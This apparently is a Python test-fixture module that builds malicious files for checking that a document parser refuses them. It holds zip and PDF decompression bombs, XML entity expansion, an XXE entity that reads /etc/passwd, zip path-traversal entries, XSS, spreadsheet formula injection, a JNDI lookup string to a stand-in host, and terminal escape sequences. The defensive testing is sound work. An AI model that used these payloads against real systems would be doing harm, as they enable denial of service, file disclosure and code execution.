"""Files that mean harm, or look as if they did: none gives a report, each has its reason."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TITLE = "某某镇2020年政府信息公开工作年度报告"
_MOJIBAKE = f"{_TITLE}，全年公开89条。".encode().decode("gb18030", "ignore") * 30


def zipped(files: dict[str, bytes], *, method: int = ZIP_DEFLATED) -> bytes:
    """An archive of ``files``."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(body: str, before: str = "") -> bytes:
    """A Word file with ``body`` as its XML, ``before`` standing ahead of the root."""
    document = f'{before}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    return zipped({"[Content_Types].xml": b"<a/>", "word/document.xml": document.encode()})


def pdf(*objects: str, root: str = "1 0 R") -> bytes:
    """A PDF file of ``objects``, numbered from 1, without a cross-reference table."""
    body = "".join(f"{n} 0 obj{text}endobj\n" for n, text in enumerate(objects, 1))
    return f"%PDF-1.4\n{body}trailer<</Root {root}>>\n%%EOF\n".encode()


def _paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def _entities(levels: int) -> str:
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE d [<!ENTITY e0 "政府">{lines}]>'


def _flate_bomb() -> bytes:
    """A page whose content unpacks to a thousand times its size."""
    packed = zlib.compress(b"q " * 60_000_000, 9)
    head = f"<</Length {len(packed)}/Filter/FlateDecode>>stream\n".encode()
    page = b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        + page + b"4 0 obj" + head + packed + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )  # fmt: skip


def hostile() -> dict[str, bytes]:
    """File names and contents. Every one must be refused, and stop no other."""
    catalogue, loop = "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 9/Kids[2 0 R]>>"
    nested = zipped({"a.zip": zipped({"b.zip": zipped({"c.txt": b"x"})})})
    external = '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return {
        "bomb.zip": zipped({"a.txt": bytes(150_000_000)}),
        "bombs.docx": zipped({"[Content_Types].xml": b"<a/>", "word/document.xml": b" " * 10**8}),
        "entities.docx": docx(_paragraph("&e9;"), _entities(10)),
        "external.docx": docx(_paragraph("&e;"), external),
        "upwards.zip": zipped({"../../../tmp/escaped.txt": _TITLE.encode()}),
        "absolute.zip": zipped({"/tmp/escaped.txt": _TITLE.encode()}),
        "within.zip": nested,
        "pages within pages.pdf": pdf(catalogue, loop),
        "its own root.pdf": pdf("<</Type/Catalog/Pages 1 0 R>>"),
        "flate bomb.pdf": _flate_bomb(),
        "half.pdf": pdf(catalogue, loop)[:60],
        "nested.html": b"<html><body>" + b"<div>" * 100_000 + _TITLE.encode(),
        "nested bold.html": b"<html><body>" + b"<b><i>" * 50_000 + _TITLE.encode(),
        "wide.html": b"<html><body><table><tr>" + b"<td>1</td>" * 200_000 + b"</table>",
        "span.html": b"<table><tr><td colspan=999999999 rowspan=999999999>1<td>2</table>",
        "one line.txt": b"\xe6\x94\xbf" * 4_000_000,
        "mojibake.txt": _MOJIBAKE.encode(),
        "broken byte.txt": _TITLE.encode() * 9 + b"\xff" + _TITLE.encode(),
        "empty.txt": b"",
        "blank.txt": " \r\n\t\u3000\ufeff".encode(),
        "nul.txt": bytes(4_000),
        "noise.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 40,
        "deep.rtf": b"{\\rtf1" + b"{" * 100_000,
        "stored.docx": zipped({"word/document.xml": b"<w:p" * 10_000}, method=ZIP_STORED),
        "picture.txt": b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + bytes(90),
        "script.html": b"<html><body><script>alert(1)</script><svg onload=alert(1)></svg>",
        "command.txt": b"=cmd|' /C calc'!A0\n@SUM(1+1)\n${jndi:ldap://a.example/x}\n{{7*7}}\n",
        "-rf.txt": b"\x1b]0;owned\x07\x1b[2J nothing here\n",
    }
